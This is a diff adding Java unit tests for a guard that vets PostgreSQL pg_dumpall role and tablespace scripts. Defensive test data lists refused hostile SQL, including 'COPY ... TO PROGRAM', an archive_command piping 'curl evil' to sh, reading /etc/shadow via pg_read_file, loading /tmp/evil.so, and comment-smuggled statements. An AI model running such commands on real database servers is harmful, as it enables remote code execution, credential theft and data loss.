@@ -51,4 +51,92 @@ class PsqlScriptGuardTest {
                     .hasMessageContaining("backslash at line");
         }
     }
+
+    @Test
+    void whatPgDumpall16To18WritesPasses() {
+        assertThatCode(() -> check("""
+                --
+                -- PostgreSQL database cluster dump
+                --
+
+                \\restrict Xy9
+                SET default_transaction_read_only = off;
+                SET client_encoding = 'UTF8';
+                SET standard_conforming_strings = on;
+
+                --
+                -- Roles
+                --
+
+                CREATE ROLE "Reporting; Team";
+                ALTER ROLE "Reporting; Team" WITH NOSUPERUSER INHERIT NOCREATEROLE NOCREATEDB NOLOGIN NOREPLICATION NOBYPASSRLS;
+                CREATE ROLE postgres;
+                ALTER ROLE postgres WITH SUPERUSER INHERIT CREATEROLE CREATEDB LOGIN REPLICATION BYPASSRLS;
+                SECURITY LABEL FOR dummy ON ROLE postgres IS 'classified';
+
+                --
+                -- User Configurations
+                --
+
+                ALTER ROLE app SET search_path TO 'app', 'public';
+                ALTER ROLE app IN DATABASE shop SET work_mem TO '64MB';
+
+                --
+                -- Role memberships
+                --
+
+                GRANT "Reporting; Team" TO app WITH INHERIT TRUE GRANTED BY postgres;
+                GRANT pg_read_all_data TO app WITH ADMIN OPTION GRANTED BY postgres;
+                GRANT SET ON PARAMETER work_mem TO app;
+                REVOKE ALL ON TABLESPACE fast FROM PUBLIC;
+                GRANT CREATE ON TABLESPACE fast TO app;
+                ALTER TABLESPACE fast SET (random_page_cost='1.1');
+                COMMENT ON TABLESPACE fast IS 'nvme; fast';
+
+                \\unrestrict Xy9
+                --
+                -- PostgreSQL database cluster dump complete
+                --
+                """)).doesNotThrowAnyException();
+    }
+
+    @Test
+    void plainSqlThatRunsProgramsOrChangesTheServerIsRefused() {
+        List<String> forged = List.of(
+                "CREATE ROLE app;\nCOPY (SELECT 1) TO PROGRAM 'touch /tmp/pwned';\n",
+                "copy (select 1) to program 'id';",
+                "DO $$ BEGIN PERFORM 1; END $$;",
+                "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $x$ import os $x$;",
+                "CREATE EXTENSION plpython3u;",
+                "ALTER SYSTEM SET archive_command = 'curl evil | sh';",
+                "DROP DATABASE shop;",
+                "CREATE DATABASE evil;",
+                "SELECT pg_catalog.pg_read_file('/etc/shadow');",
+                "SET session_preload_libraries = '/tmp/evil.so';",
+                "GRANT ALL ON DATABASE shop TO app;",
+                "GRANT SELECT ON ALL TABLES IN SCHEMA public TO app;",
+                "ALTER DATABASE shop OWNER TO app;",
+                "LOAD '/tmp/evil.so';",
+                "CREATE ROLE a /* ; */; CREATE ROLE b; SELECT 1;",
+                "COMMENT ON DATABASE shop IS 'x';",
+                "ALTER ROLE app SET x = 1; TRUNCATE t;");
+        for (String script : forged) {
+            assertThatThrownBy(() -> check(script))
+                    .as(script)
+                    .isInstanceOf(UnsafeArchiveException.class)
+                    .hasMessageContaining("does not write for roles and tablespaces");
+        }
+    }
+
+    @Test
+    void quotesAndCommentsDoNotHideAStatementsKind() {
+        // what is inside quotes or comments is no word of the statement
+        assertThatCode(() -> check("COMMENT ON ROLE app IS 'COPY; DROP DATABASE x; ON TABLE';"))
+                .doesNotThrowAnyException();
+        assertThatCode(() -> check("GRANT \"on\" TO app;")).doesNotThrowAnyException();
+        assertThatThrownBy(() -> check("GRANT /* ON TABLESPACE */ ALL ON SCHEMA s TO app;"))
+                .isInstanceOf(UnsafeArchiveException.class);
+        assertThatThrownBy(() -> check("-- CREATE ROLE\nCOPY t TO PROGRAM 'id';"))
+                .isInstanceOf(UnsafeArchiveException.class);
+    }
 }
